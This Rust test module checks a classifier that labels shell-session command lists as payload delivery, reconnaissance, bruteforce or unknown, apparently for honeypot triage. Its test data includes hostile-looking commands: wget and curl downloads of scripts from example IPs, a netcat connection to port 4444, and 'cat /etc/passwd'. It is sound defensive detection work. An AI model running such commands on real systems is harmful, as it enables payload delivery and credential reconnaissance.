// Test module for session triage.
// These tests pin the rule priority and the exact-match semantics.

use super::*;

/// Classify with the built-in pattern sets.
fn classify_commands<S: AsRef<str>>(commands: &[S]) -> BehaviorLabel {
    BehaviorClassifier::default().classify(commands)
}

fn cmds(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

// --- Priority order ---

#[test]
fn test_fetch_tool_is_payload_delivery() {
    assert_eq!(classify_commands(&cmds(&["wget", "ls", "pwd"])), BehaviorLabel::PayloadDelivery);
}

#[test]
fn test_eleven_commands_is_automation_even_with_recon() {
    let list: Vec<String> = (0..10).map(|i| format!("echo {}", i))
        .chain(std::iter::once("whoami".to_string()))
        .collect();
    assert_eq!(list.len(), 11);
    assert_eq!(classify_commands(&list), BehaviorLabel::BruteforceOrAutomation);
}

#[test]
fn test_eleven_commands_beats_payload() {
    let mut list = cmds(&["wget http://203.0.113.1/bot"]);
    list.extend((0..10).map(|i| format!("ls {}", i)));
    assert_eq!(classify_commands(&list), BehaviorLabel::BruteforceOrAutomation);
}

#[test]
fn test_ten_commands_is_not_automation() {
    let list: Vec<String> = (0..10).map(|i| format!("echo {}", i)).collect();
    assert_eq!(classify_commands(&list), BehaviorLabel::Unknown);
}

#[test]
fn test_payload_beats_recon() {
    assert_eq!(classify_commands(&cmds(&["whoami", "curl -O http://x/y"])), BehaviorLabel::PayloadDelivery);
}

#[test]
fn test_unmatched_is_unknown() {
    assert_eq!(classify_commands(&cmds(&["echo hi"])), BehaviorLabel::Unknown);
    assert_eq!(classify_commands::<String>(&[]), BehaviorLabel::Unknown);
}

// --- Payload delivery ---

#[test]
fn test_fetch_tool_with_arguments() {
    assert_eq!(classify_commands(&cmds(&["wget http://198.51.100.2/x.sh"])), BehaviorLabel::PayloadDelivery);
    assert_eq!(classify_commands(&cmds(&["cd /tmp && nc 10.0.0.1 4444"])), BehaviorLabel::PayloadDelivery);
}

#[test]
fn test_fetch_tool_is_not_substring_matched() {
    assert_eq!(classify_commands(&cmds(&["wgetrc", "curly", "echo ncurses"])), BehaviorLabel::Unknown);
}

// --- Reconnaissance ---

#[test]
fn test_recon_probe_exact() {
    assert_eq!(classify_commands(&cmds(&["cat /etc/passwd"])), BehaviorLabel::Reconnaissance);
    assert_eq!(classify_commands(&cmds(&["ls", "uname"])), BehaviorLabel::Reconnaissance);
    assert_eq!(classify_commands(&cmds(&["  whoami  "])), BehaviorLabel::Reconnaissance);
}

#[test]
fn test_recon_probe_needs_whole_line() {
    assert_eq!(classify_commands(&cmds(&["cat /etc/passwd | grep root"])), BehaviorLabel::Unknown);
    assert_eq!(classify_commands(&cmds(&["whoami2"])), BehaviorLabel::Unknown);
}

// --- Configuration ---

#[test]
fn test_custom_patterns() {
    let config = BehaviorConfig {
        bruteforce_threshold: 2,
        fetch_tools: cmds(&["scp"]),
        recon_probes: cmds(&["hostname"]),
    };
    let classifier = BehaviorClassifier::from_config(&config);
    assert_eq!(classifier.classify(&["a", "b", "c"]), BehaviorLabel::BruteforceOrAutomation);
    assert_eq!(classifier.classify(&["scp a b:"]), BehaviorLabel::PayloadDelivery);
    assert_eq!(classifier.classify(&["wget x"]), BehaviorLabel::Unknown);
    assert_eq!(classifier.classify(&["hostname"]), BehaviorLabel::Reconnaissance);
}

#[test]
fn test_deterministic() {
    let list = cmds(&["uname -a", "wget x"]);
    let classifier = BehaviorClassifier::default();
    assert_eq!(classifier.classify(&list), classifier.classify(&list));
}

// --- Labels ---

#[test]
fn test_label_strings() {
    assert_eq!(BehaviorLabel::BruteforceOrAutomation.to_string(), "bruteforce_or_automation");
    assert_eq!(BehaviorLabel::PayloadDelivery.to_string(), "payload_delivery");
    assert_eq!(BehaviorLabel::Reconnaissance.to_string(), "reconnaissance");
    assert_eq!(BehaviorLabel::Unknown.to_string(), "unknown");
    assert_eq!(serde_json::to_string(&BehaviorLabel::PayloadDelivery).unwrap(), "\"payload_delivery\"");
}

#[test]
fn test_label_severity() {
    assert_eq!(BehaviorLabel::PayloadDelivery.severity(), Severity::Critical);
    assert_eq!(BehaviorLabel::Reconnaissance.severity(), Severity::Warning);
    assert_eq!(BehaviorLabel::Unknown.severity(), Severity::Info);
}
